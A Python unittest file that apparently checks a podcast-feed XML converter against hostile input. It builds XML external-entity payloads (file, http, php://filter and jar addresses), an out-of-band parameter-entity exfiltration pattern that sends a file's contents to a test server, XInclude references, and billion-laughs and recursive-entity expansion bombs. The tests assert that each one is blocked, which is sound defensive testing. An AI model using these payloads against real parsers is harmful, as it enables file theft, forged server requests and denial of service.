"""Entities can make a document read files, ask servers or grow without end; none of these does.

A feed is refused with the cause and its place, or read without what lies outside of it.
"""

import unittest

from hostile_documents import FileWatch, chain_of_entities, doctype, feed, laughs, numbered
from hostile_feeds import (AMPLIFIED, INVALID, NO_ELEMENT, READ, RECURSIVE, UNCLOSED, UNDEFINED, HostileFeedTestCase,
                           title)


class ExternalEntityTest(HostileFeedTestCase):
    """Nothing is fetched and no file is opened, whichever way XML has to ask for it."""

    def setUp(self):
        super().setUp()
        self.secret = self.write("secret.txt", b"SECRET")
        self.dtd = self.write("secret.dtd", b"<!ENTITY e 'SECRET'>")
        self.watch = FileWatch(self.secret, self.dtd)
        self.addCleanup(self.watch.close)
        self.web = self.server()
        self.web.serve("/secret.txt", b"SECRET")
        self.web.serve("/secret.dtd", b"<!ENTITY e 'SECRET'>")

    def addresses(self, name):
        path = self.path(name)
        return (path.as_uri(), str(path), name, self.web.url("/" + name), self.web.url("/" + name)[len("http:"):],
                f"php://filter/resource={path}", f"jar:{path.as_uri()}!/x")

    def assertKept(self, document, expected):
        result = self.convert(document.encode())
        self.assertNotIn(b"SECRET", result.stdout + result.stderr)
        self.assertEqual(self.web.requests, [])
        self.assertEqual(self.watch.openings(), [])
        self.assertOutcome(document.encode(), expected)

    def test_the_watch_sees_who_opens_a_file(self):
        self.secret.read_bytes()
        self.assertEqual(self.watch.openings(), ["secret.txt"])
        self.assertEqual(self.watch.openings(), [])

    def test_general_entities(self):
        for address in self.addresses("secret.txt"):
            for kind in (f'SYSTEM "{address}"', f'PUBLIC "-//a//b" "{address}"'):
                head = f"<!DOCTYPE rss [<!ENTITY e {kind}>]>"
                for body, expected in (
                        ("<rss><title>&e;</title></rss>", {"PodcastName": ""}),
                        ("<rss>&e;<title>t</title></rss>", READ),
                        ("<rss><a b='&e;'/></rss>", "reference to external entity in attribute")):
                    with self.subTest(kind, body=body):
                        self.assertKept(head + body, expected)

    def test_entities_that_are_no_text(self):
        for address in self.addresses("secret.txt"):
            with self.subTest(address):
                self.assertKept(f'<!DOCTYPE rss [<!NOTATION n SYSTEM "{address}"><!ENTITY e SYSTEM "{address}" NDATA n>'
                                "<!ATTLIST rss a ENTITY 'e'>]><rss><title>t</title></rss>", READ)
                self.assertKept(f'<!DOCTYPE rss [<!NOTATION n SYSTEM "{address}"><!ENTITY e SYSTEM "{address}" NDATA n>'
                                "]><rss><title>&e;</title></rss>", "reference to binary entity")

    def test_external_subsets(self):
        for address in self.addresses("secret.dtd"):
            for kind in (f'SYSTEM "{address}"', f'PUBLIC "-//a//b" "{address}"'):
                with self.subTest(kind):
                    self.assertKept(f"<!DOCTYPE rss {kind}><rss><title>t&e;</title></rss>", READ)
                    self.assertKept(f"<?xml version='1.0' standalone='yes'?><!DOCTYPE rss {kind}>"
                                    "<rss><title>t&e;</title></rss>", UNDEFINED)

    def test_parameter_entities(self):
        for address in self.addresses("secret.dtd"):
            for declarations in (
                    f'<!ENTITY % p SYSTEM "{address}"> %p;',
                    f'<!ENTITY % p PUBLIC "-//a//b" "{address}"> %p;',
                    f"<!ENTITY % q '<!ENTITY &#37; p SYSTEM \"{address}\"> &#37;p;'> %q;",
                    f"<!ENTITY % file SYSTEM \"{address}\"><!ENTITY % q "
                    f"'<!ENTITY &#37; send SYSTEM \"{self.web.url('/secret.txt')}?%file;\">'> %q; %send;"):
                with self.subTest(declarations):
                    result = self.convert(f"<!DOCTYPE rss [{declarations}]><rss><title>t&e;</title></rss>".encode())
                    self.assertNotIn(b"SECRET", result.stdout + result.stderr)
                    self.assertEqual(self.web.requests, [])
                    self.assertEqual(self.watch.openings(), [])
                    self.assertIn(result.status, (0, 1))

    def test_what_other_readers_follow(self):
        for address in self.addresses("secret.txt"):
            for document in (
                    f'<?xml-stylesheet type="text/xsl" href="{address}"?><rss><title>t</title></rss>',
                    f'<rss xmlns:xi="http://www.w3.org/2001/XInclude"><title>t</title><xi:include href="{address}" '
                    'parse="text"/></rss>',
                    '<rss xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                    f'xsi:schemaLocation="a {address}"><title>t</title></rss>',
                    f'<rss xml:base="{address}"><title>t</title></rss>',
                    f'<rss><title>t</title><atom:link rel="next" href="{address}"/></rss>'):
                with self.subTest(document):
                    self.assertKept(document, READ)


class EntityBombTest(HostileFeedTestCase):
    def test_entities_of_many_entities(self):
        parameters = b"".join(b"<!ENTITY %% p%d '%s'>" % (level, b"&#37;p%d;" % (level - 1) * 10)
                              for level in range(1, 12))
        self.assertOutcomes(
            ("in a text", title(b"&e11;", doctype(laughs(11))), AMPLIFIED),
            ("in an attribute", feed(b"<a b='&e11;'/>", doctype(laughs(11))), AMPLIFIED),
            ("in an attribute by default", feed(b"<a/>", doctype(laughs(11) + b"<!ATTLIST a b CDATA '&e11;'>")),
             AMPLIFIED),
            ("of parameters, which are not resolved", title(
                b"t", doctype(b"<!ENTITY % p0 '<!-- x -->'>" + parameters + b"%p11;")), READ),
            ("of elements", feed(b"&e11;", doctype(laughs(11).replace(b"0123456789", b"<item/>"))), AMPLIFIED),
            ("of nothing", feed(b"&e11;", doctype(laughs(11).replace(b"0123456789", b""))), AMPLIFIED),
            ("of one each", title(b"&e40;", doctype(laughs(40, ways=1))), {"PodcastName": "0123456789"}),
            ("never referred to", title(b"t", doctype(laughs(11))), READ))

    def test_long_entities(self):
        long = b"x" * 200_000
        self.assertOutcomes(
            ("in a text", title(b"&e;" * 100_000, doctype(b"<!ENTITY e '" + long + b"'>")), AMPLIFIED),
            ("in attributes", feed(b"<a b='&e;'/>" * 10_000, doctype(b"<!ENTITY e '" + long + b"'>")), AMPLIFIED),
            ("of elements", feed(b"&e;" * 100_000, doctype(b"<!ENTITY e '" + b"<item/>" * 10_000 + b"'>")), AMPLIFIED),
            ("as a default", feed(b"<item><enclosure/></item>" * 10_000, doctype(
                b"<!ATTLIST enclosure url CDATA '" + long + b"'>")), AMPLIFIED),
            ("a megabyte of a short one", title(b"&e;" * 10_000, doctype(b"<!ENTITY e '" + b"t" * 100 + b"'>")),
             {"PodcastName": "t" * 1_000_000}))

    def test_entities_in_entities(self):
        deep = chain_of_entities(2_500_000)
        last = b"&e%d;" % (deep.count(b"<!ENTITY") - 2)
        too_many = "too many entities made of entities"
        self.assertOutcomes(
            ("in a text", title(last, doctype(deep)), too_many),
            ("in an attribute", feed(b"<a b='" + last + b"'/>", doctype(deep)), too_many),
            ("in an attribute by default", feed(b"<a/>", doctype(deep + b"<!ATTLIST a b CDATA '" + last + b"'>")),
             too_many),
            ("in themselves", title(b"&e;", doctype(b"<!ENTITY e 'x&e;'>")), RECURSIVE),
            ("in each other", title(b"&e;", doctype(b"<!ENTITY e '&f;'><!ENTITY f '&e;'>")), RECURSIVE),
            ("in each other, in an attribute", feed(
                b"<a b='&e;'/>", doctype(b"<!ENTITY e '&f;'><!ENTITY f '&e;'>")), RECURSIVE),
            ("in themselves, of parameters, which are not resolved", title(
                b"t", doctype(b"<!ENTITY % p '&#37;p;'> %p;")), READ))

    def test_declarations(self):
        many = 100_000
        self.assertOutcomes(
            ("many entities", title(b"&e99999;", doctype(numbered(b"<!ENTITY e# 't'>", 22 * many))), READ),
            ("the same entity", title(b"&e;", doctype(b"<!ENTITY e 't'>" + b"<!ENTITY e 'u'>" * many)), READ),
            ("many elements", title(b"t", doctype(numbered(b"<!ELEMENT e# ANY>", 22 * many))), READ),
            ("groups in groups", title(b"t", doctype(b"<!ELEMENT e " + b"(" * many + b"f" + b")" * many + b">")), READ),
            ("many attributes of one element", title(b"t", doctype(numbered(b"<!ATTLIST a b# CDATA ''>", 30 * many))),
             "too many declared attributes"),
            ("many attributes in one declaration", title(b"t", doctype(
                b"<!ATTLIST a " + numbered(b"b# CDATA #IMPLIED ".replace(b"#I", b"\0I"), 30 * many).replace(b"\0", b"#")
                + b">")), "too many declared attributes"),
            ("an entity that opens an element", feed(b"&e;</a>", doctype(b"<!ENTITY e '<a>'>")),
             "asynchronous entity"),
            ("an entity that is no XML", feed(b"&e;", doctype(b"<!ENTITY e '&#60;'>")), UNCLOSED),
            ("a document type in the root", b"<rss><!DOCTYPE rss></rss>", INVALID),
            ("a document type without an end", b"<!DOCTYPE rss [<!ENTITY e 't'>", NO_ELEMENT),
            ("conditional sections", title(b"t", doctype(b"<![INCLUDE[<!ENTITY e 't'>]]>")), "syntax error"))


if __name__ == "__main__":
    unittest.main()
